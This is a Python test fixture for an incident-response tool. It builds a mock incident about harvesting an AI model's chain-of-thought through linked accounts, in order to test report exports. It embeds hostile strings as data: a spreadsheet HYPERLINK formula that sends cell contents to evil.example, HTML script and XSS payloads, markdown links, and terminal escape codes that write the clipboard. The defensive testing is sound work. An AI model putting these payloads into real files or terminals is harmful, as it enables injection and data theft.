"""The fixed incident of the export tests: every event type the report reads, hostile text."""

from __future__ import annotations

import os
from pathlib import Path

from ircli.core.approvals import approval_subject
from ircli.services.incidents import add_note, close_incident, open_incident
from ircli.services.workspace import Workspace

# Read before the hermetic fixture clears IRCLI_* variables.
UPDATE_GOLDEN = os.environ.get("IRCLI_UPDATE_GOLDEN") == "1"
GOLDEN = Path(__file__).parent / "golden"
FORUM_KEY = "test-forum-key-0123456789"

CSV_PAYLOAD = '=HYPERLINK("http://evil.example/x?"&A1,"click")'
HTML_PAYLOAD = '<script>alert("x")</script><img src="http://evil.example/p.png" onerror=alert(1)>'
MD_PAYLOAD = "[click me](http://evil.example) ![img](http://evil.example/i.png) **bold** | pipe"
PROMPT_CANARY = "canary-prompt-5f1c: explain the reasoning behind this answer"
ESC_PAYLOAD = "\x1b]52;c;cHduZWQ=\x07\x1b[2J red\x1b[31m"


def build_incident(ws: Workspace) -> str:
    """Open and work a small incident; returns its id. Deterministic under a FixedClock."""
    state = open_incident(
        ws,
        title="CoT harvesting from a hydra cluster <b>bold</b>",
        severity="sev2",
        tlp="AMBER",
        subjects=["acct-1001", "acct-1002", "acct-1003"],
        description="Three trial accounts ask for the reasoning behind finished answers.\n"
        + HTML_PAYLOAD,
        playbook="distillation",
    )
    inc, store = state.id, ws.store
    store.append(inc, "step.started", {"step": "preserve"}, "alice")
    store.append(
        inc,
        "evidence.added",
        {
            # The shape evidence pulls write (ircli.evidence.pull), plus sample prompts.
            "evidence_id": "EV-0001",
            "source": "logs",
            "source_type": "http",
            "table": "requests",
            "query": {"table": "requests", "accounts": ["acct-1001"], "days": 14},
            "records": 12840,
            "quarantined": 3,
            "out_of_scope": 0,
            "pages": 13,
            "raw_sha256": "a" * 64,
            "parquet_sha256": "b" * 64,
            "quarantine_sha256": "e" * 64,
            "sample_prompts": [CSV_PAYLOAD, HTML_PAYLOAD, PROMPT_CANARY],
        },
        "alice",
    )
    store.append(
        inc,
        "analysis.completed",
        {  # the shape ircli.services.analysis writes (the result file is not stored here)
            "analysis_id": "AN-1a2b3c4d",
            "result_sha256": "f" * 64,
            "result_path": "analysis/missing.json",
            "summary": {
                "accounts": 42,
                "verdicts": {"alert": 31, "watch": 6, "policy": 0, "clear": 5},
                "alerted": 31,
                "clusters": 2,
            },
            "indicators": [
                {"name": "cot_elicitation_share", "value": 0.91},
                {"name": "shared_payment_fingerprint", "value": 0.74},
                {"name": "automation_regularity", "value": 0.66},
                {"name": MD_PAYLOAD, "value": 0.1},
            ],
        },
        "alice",
    )
    add_note(ws, inc, CSV_PAYLOAD)
    add_note(ws, inc, HTML_PAYLOAD + " " + MD_PAYLOAD + " " + ESC_PAYLOAD)
    decision = {
        "step": "decide",
        "option": "confirmed campaign",
        "rationale": "Two families agree: "
        "content (CoT share 0.91) and identity (shared payment across 3 orgs). " + CSV_PAYLOAD,
    }
    store.append(inc, "decision.recorded", {**decision, "evidence": ["EV-0001"]}, "alice")
    subject = approval_subject(decision)
    store.append(
        inc,
        "approval.requested",
        {"step": "decide", "subject": subject, "required": 1, "from": [], "summary": "confirm"},
        "alice",
    )
    store.append(
        inc, "approval.granted", {"step": "decide", "subject": subject, "comment": "agree"}, "bob"
    )
    targets = ["acct-1001", "acct-1002", "acct-1003", "acct-1004"]
    store.append(
        inc,
        "action.requested",
        {  # the shape ircli.services.containment writes
            "step": "contain",
            "mode": "apply",
            "action": "terminate",
            "preview": {
                "step": "contain",
                "action": "terminate",
                "mode": "apply",
                "targets": targets,
            },
            "preview_hash": "9" * 64,
        },
        "alice",
    )
    store.append(
        inc,
        "approval.rejected",
        {"step": "report", "subject": "c" * 64, "comment": "not yet"},
        "carol",
    )
    ledger = {"step": "contain", "mode": "apply"}
    for account in ("acct-1001", "acct-1002"):
        store.append(
            inc,
            "action.target_succeeded",
            {**ledger, "account": account, "effect": "deactivated"},
            "alice",
        )
    store.append(
        inc,
        "action.target_failed",
        {**ledger, "account": "acct-1003", "reason": "HTTP 503", "permanent": False},
        "alice",
    )
    store.append(inc, "action.target_succeeded", {"target": "legacy-shape"}, "alice")
    store.append(inc, "decision.recorded", {}, "alice")  # malformed: must not crash a writer
    store.append(inc, "analysis.completed", {"verdicts": "nonsense", "indicators": 7}, "alice")
    store.append(
        inc,
        "report.submitted",
        {  # the shape ircli.services.forum writes
            "subject": "d" * 64,
            "bundle": "incident",
            "status_id": "5b0ac8e2-8f7c-4a0e-9c55-2a6d7e3f0b11",
            "success_count": 17,
            "failure_count": 0,
            "pending_count": 0,
            "object_ids": [f"indicator--{n}" for n in range(17)],
        },
        "alice",
    )
    # Responder names may start with "-", "+" or "@": a spreadsheet would read a formula.
    store.append(inc, "note.added", {"text": "second opinion"}, "-mallory+1")
    store.append(inc, "plugin.something", {"weird": [1, {"x": None}]}, "alice")
    close_incident(ws, inc, summary="Campaign contained; report filed with the Forum.")
    return inc
